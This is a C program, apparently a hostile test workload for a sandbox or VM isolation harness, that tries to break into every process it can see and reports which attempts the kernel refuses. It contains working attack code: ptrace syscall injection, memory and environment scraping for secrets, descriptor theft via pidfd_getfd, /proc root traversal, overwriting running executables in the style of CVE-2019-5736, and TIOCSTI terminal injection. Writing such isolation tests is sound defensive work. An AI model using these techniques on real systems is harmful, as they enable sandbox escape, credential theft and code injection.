/*
 * The workload that nobody should have to trust: tries each way from one process into another on every process it sees.
 *
 * Commands come on standard input, one a line:
 *
 *   path FILE     a file outside this root that holds "linx-secret"
 *   token TEXT    what the VM's environment holds, spelled backwards, so that no copy of the request contains it
 *   go PID...     attack these processes, or with no number all that /proc lists but this one
 *   overwrite     write to the programs that those ran
 *
 * Each attack prints `PID NAME RESULT` (PID 0: none in particular), and `done` ends the round. RESULT is
 *
 *   refused ERRNO   the kernel said no
 *   nothing         access was given, and there was nothing worth having
 *   empty           access was given, to no descriptor at all
 *   YIELDED WHAT    access was given, to WHAT
 *
 * proc(5), ptrace(2), process_vm_readv(2), pidfd_getfd(2), keyrings(7), ioctl_tty(2).
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <elf.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

#define SECRET "linx-secret"
#ifndef SYS_pidfd_open
#define SYS_pidfd_open 434
#endif
#ifndef SYS_pidfd_getfd
#define SYS_pidfd_getfd 438
#endif

/* The frame that tells the VM of an exit with 42: {status, exited, 42, {0, ...}} without its usage is malformed, and
 * even that would end the session. */
static const unsigned char FRAME[] = {0, 0, 0, 22, 131, 104, 3, 119, 6, 's', 't', 'a', 't', 'u', 's',
                                      119, 6, 'e', 'x', 'i', 't', 'e', 'd', 97, 42, 0};

static char secret_path[1024];
static char token[256];

static void say(int pid, const char *name, const char *result) {
  printf("%d %s %s\n", pid, name, result);
}

static void refused(int pid, const char *name) {
  printf("%d %s refused %d\n", pid, name, errno);
}

/* Whether FILE, reached through `prefix`, is the one outside. */
static int reads_secret(const char *prefix) {
  char path[8192], text[64] = {0};
  snprintf(path, sizeof path, "%s%s", prefix, secret_path);
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return 0;
  ssize_t got = read(fd, text, sizeof text - 1);
  close(fd);
  return got > 0 && strncmp(text, SECRET, strlen(SECRET)) == 0;
}

static void through_directory(int pid, const char *name, const char *up) {
  char path[128];
  snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
  int fd = open(path, O_PATH | O_CLOEXEC);
  if (fd < 0) return refused(pid, name);
  close(fd);
  strcat(path, up);
  say(pid, name, reads_secret(path) ? "YIELDED a file outside" : "nothing");
}

static void descriptors(int pid) {
  char path[128];
  snprintf(path, sizeof path, "/proc/%d/fd", pid);
  DIR *dir = opendir(path);
  if (!dir) return refused(pid, "fd");
  struct dirent *entry;
  int count = 0, refusals = 0, error = 0, worth = 0;
  while ((entry = readdir(dir))) {
    if (entry->d_name[0] == '.') continue;
    count++;
    char file[512], target[256] = {0};
    snprintf(file, sizeof file, "/proc/%d/fd/%s", pid, entry->d_name);
    if (readlink(file, target, sizeof target - 1) < 0) {
      /* CAP_DAC_OVERRIDE opens the directory all the same. */
      refusals++;
      error = errno;
      continue;
    }
    int number = atoi(entry->d_name);
    if (reads_secret(file)) worth = 1;
    /* Descriptors 0 to 2 are the workload's own streams; a pipe above them leads elsewhere. */
    if (number > 2 && strncmp(target, "pipe:", 5) == 0) {
      int fd = open(file, O_WRONLY | O_NONBLOCK | O_CLOEXEC);
      if (fd >= 0) {
        if (write(fd, FRAME, sizeof FRAME) > 0) worth = 1;
        close(fd);
      }
    }
  }
  closedir(dir);
  errno = error;
  if (count == 0) return say(pid, "fd", "empty");
  if (refusals == count) return refused(pid, "fd");
  say(pid, "fd", worth ? "YIELDED a descriptor" : "nothing");
}

static int holds_token(const char *bytes, size_t length) {
  size_t size = strlen(token);
  return size && memmem(bytes, length, token, size) != NULL;
}

static void file_with_token(int pid, const char *name) {
  static char text[1 << 20];
  char path[128];
  snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return refused(pid, name);
  ssize_t total = 0, got;
  while (total < (ssize_t)sizeof text && (got = read(fd, text + total, sizeof text - total)) > 0) total += got;
  int error = errno;
  close(fd);
  if (total == 0 && got < 0) {
    errno = error;
    return refused(pid, name);
  }
  say(pid, name, holds_token(text, total) ? "YIELDED the token" : "nothing");
}

/* Every readable mapping of `pid`, through `copy`: 1 with the token in it, 0 without, -1 where nothing could be read. */
static int scan(int pid, ssize_t (*copy)(int, void *, size_t, unsigned long), int handle) {
  static char buffer[1 << 16];
  char path[128], line[512];
  snprintf(path, sizeof path, "/proc/%d/maps", pid);
  FILE *maps = fopen(path, "re");
  int any = -1;
  if (!maps) {
    /* A static program's usual place, for whoever may read memory but not this file. */
    return copy(handle, buffer, sizeof buffer, 0x400000) > 0 ? holds_token(buffer, sizeof buffer) : -1;
  }
  while (fgets(line, sizeof line, maps)) {
    unsigned long start, end;
    char permissions[8];
    if (sscanf(line, "%lx-%lx %7s", &start, &end, permissions) != 3 || permissions[0] != 'r') continue;
    for (unsigned long at = start; at < end && at - start < (64UL << 20); at += sizeof buffer - 256) {
      size_t want = end - at < sizeof buffer ? end - at : sizeof buffer;
      ssize_t got = copy(handle, buffer, want, at);
      if (got <= 0) break;
      any = any < 0 ? 0 : any;
      if (holds_token(buffer, got)) any = 1;
    }
  }
  fclose(maps);
  return any;
}

static ssize_t by_mem(int fd, void *to, size_t length, unsigned long at) { return pread(fd, to, length, at); }

static ssize_t by_vm(int pid, void *to, size_t length, unsigned long at) {
  struct iovec local = {to, length}, remote = {(void *)at, length};
  return process_vm_readv(pid, &local, 1, &remote, 1, 0);
}

static void memory(int pid) {
  char path[128];
  snprintf(path, sizeof path, "/proc/%d/mem", pid);
  int fd = open(path, O_RDWR | O_CLOEXEC);
  if (fd < 0)
    refused(pid, "mem");
  else {
    int found = scan(pid, by_mem, fd);
    say(pid, "mem", found > 0 ? "YIELDED the token" : "nothing");
    close(fd);
  }
  char byte;
  if (by_vm(pid, &byte, 1, 0x400000) < 0 && (errno == EPERM || errno == ESRCH))
    refused(pid, "vm_readv");
  else
    say(pid, "vm_readv", scan(pid, by_vm, pid) > 0 ? "YIELDED the token" : "nothing");
  struct iovec local = {&byte, 1}, remote = {(void *)0x400000, 1};
  if (process_vm_writev(pid, &local, 1, &remote, 1, 0) < 0 && (errno == EPERM || errno == ESRCH))
    refused(pid, "vm_writev");
  else
    say(pid, "vm_writev", "nothing");
}

static void take_descriptors(int pid) {
  int pidfd = syscall(SYS_pidfd_open, pid, 0);
  if (pidfd < 0) return refused(pid, "getfd");
  int taken = 0, worth = 0;
  errno = 0;
  for (int number = 0; number < 64; number++) {
    int fd = syscall(SYS_pidfd_getfd, pidfd, number, 0);
    if (fd < 0) continue;
    taken++;
    char link[64], target[256] = {0};
    snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
    if (readlink(link, target, sizeof target - 1) < 0) target[0] = 0;
    struct stat info;
    if (fstat(fd, &info) == 0 && S_ISDIR(info.st_mode) && reads_secret(link)) worth = 1;
    if (number > 2 && strncmp(target, "pipe:", 5) == 0) worth |= write(fd, FRAME, sizeof FRAME) > 0;
    close(fd);
  }
  int error = errno;
  close(pidfd);
  errno = error;
  if (!taken && errno == EPERM) return refused(pid, "getfd");
  say(pid, "getfd", worth ? "YIELDED a descriptor" : "nothing");
}

/* The programs that were seen to run, held without being open: a program that runs cannot be opened for writing, but it
 * can once it has ended or executed another (CVE-2019-5736). */
static struct { int pid, fd; } images[64];
static int image_count;

static void image(int pid) {
  char path[128];
  snprintf(path, sizeof path, "/proc/%d/exe", pid);
  int fd = open(path, O_PATH | O_CLOEXEC);
  if (fd < 0) return refused(pid, "exe");
  if (image_count == 64) return say(pid, "exe", "YIELDED more programs than this one holds");
  images[image_count].pid = pid;
  images[image_count++].fd = fd;
  say(pid, "exe", "nothing");
}

static void overwrite(void) {
  for (int i = 0; i < image_count; i++) {
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", images[i].fd);
    int fd = open(path, O_WRONLY | O_CLOEXEC);
    /* The first byte of every program. */
    if (fd < 0 || pwrite(fd, "\177", 1, 0) < 0)
      refused(images[i].pid, "overwrite");
    else
      say(images[i].pid, "overwrite", "YIELDED a program");
    if (fd >= 0) close(fd);
    close(images[i].fd);
  }
  image_count = 0;
  puts("done");
}

#ifdef __x86_64__
/* Makes the stopped process call mkdir(2) with a path that leaves its working directory upwards. */
static void inject(int pid) {
  struct user_regs_struct saved, regs;
  struct iovec vector = {&saved, sizeof saved};
  char path[2048], parent[sizeof secret_path];
  strcpy(parent, secret_path);
  *strrchr(parent, '/') = 0;
  snprintf(path, sizeof path, "../../../../../../../../../..%s/injected", parent);
  if (ptrace(PTRACE_GETREGSET, pid, NT_PRSTATUS, &vector) < 0) return refused(pid, "inject");
  unsigned long at = (saved.rsp - 8192) & ~15UL;
  for (size_t i = 0; i <= strlen(path); i += 8) {
    long word;
    memcpy(&word, path + i, 8);
    if (ptrace(PTRACE_POKEDATA, pid, at + i, word) < 0) return refused(pid, "inject");
  }
  regs = saved;
  /* It waits in a system call: the instruction before its counter is the one to enter the kernel. */
  regs.rip = saved.rip - 2;
  regs.rax = SYS_mkdir;
  regs.orig_rax = -1;
  regs.rdi = at;
  regs.rsi = 0777;
  vector.iov_base = &regs;
  if (ptrace(PTRACE_SETREGSET, pid, NT_PRSTATUS, &vector) < 0) return refused(pid, "inject");
  int status;
  ptrace(PTRACE_SINGLESTEP, pid, 0, 0);
  if (waitpid(pid, &status, __WALL) < 0 || !WIFSTOPPED(status)) return say(pid, "inject", "nothing");
  vector.iov_base = &regs;
  vector.iov_len = sizeof regs;
  long answer = ptrace(PTRACE_GETREGSET, pid, NT_PRSTATUS, &vector) < 0 ? -EIO : (long)regs.rax;
  vector.iov_base = &saved;
  ptrace(PTRACE_SETREGSET, pid, NT_PRSTATUS, &vector);
  if (answer == 0) return say(pid, "inject", "YIELDED a directory outside");
  errno = (int)-answer;
  refused(pid, "inject");
}
#else
static void inject(int pid) { say(pid, "inject", "nothing"); }
#endif

/* Waits until the process waits, for at most two seconds: one that runs is in no system call that could be another. */
static void until_asleep(int pid) {
  char path[64], line[512];
  snprintf(path, sizeof path, "/proc/%d/stat", pid);
  for (int i = 0; i < 2000; i++) {
    FILE *file = fopen(path, "re");
    if (!file) return;
    char *name_end = fgets(line, sizeof line, file) ? strrchr(line, ')') : NULL;
    fclose(file);
    if (!name_end || name_end[2] == 'S') return;
    usleep(1000);
  }
}

static void trace(int pid) {
  until_asleep(pid);
  if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0) {
    refused(pid, "ptrace");
    return;
  }
  say(pid, "ptrace", "nothing");
  int status;
  if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) == 0 && waitpid(pid, &status, __WALL) == pid && WIFSTOPPED(status))
    inject(pid);
  ptrace(PTRACE_DETACH, pid, 0, 0);
}

/* keyctl(2): the session keyring that this process possesses. */
static void keyring(void) {
  /* KEYCTL_SEARCH in KEY_SPEC_SESSION_KEYRING. */
  char text[8];
  long key = syscall(SYS_keyctl, 10, -3, "user", "linx-secret", 0);
  /* KEYCTL_READ. */
  if (key < 0 || syscall(SYS_keyctl, 11, key, text, sizeof text) < 0) return refused(0, "keyring");
  say(0, "keyring", "YIELDED a key");
}

static void terminals(void) {
  char name[64];
  for (int fd = 0; fd < 3; fd++) {
    snprintf(name, sizeof name, "tiocsti-%d", fd);
    if (ioctl(fd, TIOCSTI, "x") < 0)
      refused(0, name);
    else
      say(0, name, "YIELDED a terminal's input");
  }
  int fd = open("/dev/tty", O_RDWR | O_CLOEXEC);
  if (fd < 0)
    refused(0, "tty");
  else if (ioctl(fd, TIOCSTI, "x") < 0)
    refused(0, "tty");
  else
    say(0, "tty", "YIELDED a terminal's input");
  for (int n = 0; n < 64; n++) {
    char path[64];
    snprintf(path, sizeof path, "/dev/pts/%d", n);
    if ((fd = open(path, O_RDWR | O_NOCTTY | O_NONBLOCK | O_CLOEXEC)) < 0) continue;
    if (write(fd, "x", 1) > 0) say(0, "pts", "YIELDED another terminal");
    close(fd);
  }
}

/* Every file of the process's directory: whether one of them, open to this program, holds what the VM's environment does
 * or names the file outside. */
static void entries(int pid) {
  static char text[1 << 16];
  char path[512], found[256] = "nothing";
  snprintf(path, sizeof path, "/proc/%d", pid);
  DIR *dir = opendir(path);
  if (!dir) return refused(pid, "entries");
  struct dirent *entry;
  while ((entry = readdir(dir))) {
    snprintf(path, sizeof path, "/proc/%d/%s", pid, entry->d_name);
    struct stat info;
    if (stat(path, &info) < 0 || !S_ISREG(info.st_mode)) continue;
    int fd = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
    if (fd < 0) continue;
    ssize_t total = 0, got;
    while (total < (ssize_t)sizeof text && (got = read(fd, text + total, sizeof text - total)) > 0) total += got;
    close(fd);
    if (holds_token(text, total)) snprintf(found, sizeof found, "YIELDED %.200s", entry->d_name);
  }
  closedir(dir);
  say(pid, "entries", found);
}

/* A frame of the agent's on this program's own streams: output, and nothing else, to the VM. */
static void frame(void) {
  fflush(stdout);
  if (write(1, FRAME, sizeof FRAME) < 0 || write(1, "\n", 1) < 0) return refused(0, "frame");
  say(0, "frame", "nothing");
}

static void attack(int pid) {
  entries(pid);
  through_directory(pid, "cwd", "/../../../../../../../../..");
  through_directory(pid, "root", "");
  descriptors(pid);
  file_with_token(pid, "environ");
  memory(pid);
  take_descriptors(pid);
  image(pid);
  trace(pid);
}

static void go(char *numbers) {
  char *number = strtok(numbers, " ");
  if (number) {
    for (; number; number = strtok(NULL, " ")) attack(atoi(number));
  } else {
    DIR *dir = opendir("/proc");
    struct dirent *entry;
    while (dir && (entry = readdir(dir))) {
      int pid = atoi(entry->d_name);
      if (pid > 0 && pid != getpid()) attack(pid);
    }
    if (dir) closedir(dir);
  }
  keyring();
  terminals();
  frame();
  puts("done");
}

/* `attack key COMMAND...`: executes COMMAND with a session keyring that holds a key. */
static int with_key(char **command) {
  /* KEYCTL_JOIN_SESSION_KEYRING, an anonymous one. */
  if (syscall(SYS_keyctl, 1, NULL) < 0) return perror("keyctl"), 1;
  if (syscall(SYS_add_key, "user", "linx-secret", "plum", 4, -3) < 0) return perror("add_key"), 1;
  execvp(command[0], command);
  return perror(command[0]), 1;
}

int main(int count, char **arguments) {
  if (count > 2 && strcmp(arguments[1], "key") == 0) return with_key(arguments + 2);
  static char line[1024];
  setvbuf(stdout, NULL, _IOLBF, 0);
  puts("up");
  while (fgets(line, sizeof line, stdin)) {
    line[strcspn(line, "\n")] = 0;
    if (strncmp(line, "path ", 5) == 0)
      strncpy(secret_path, line + 5, sizeof secret_path - 1);
    else if (strncmp(line, "token ", 6) == 0) {
      size_t length = strlen(line + 6);
      for (size_t i = 0; i < length && i < sizeof token - 1; i++) token[i] = line[6 + length - 1 - i];
    } else if (strncmp(line, "go", 2) == 0)
      go(line + 2);
    else if (strcmp(line, "overwrite") == 0)
      overwrite();
  }
  return 0;
}
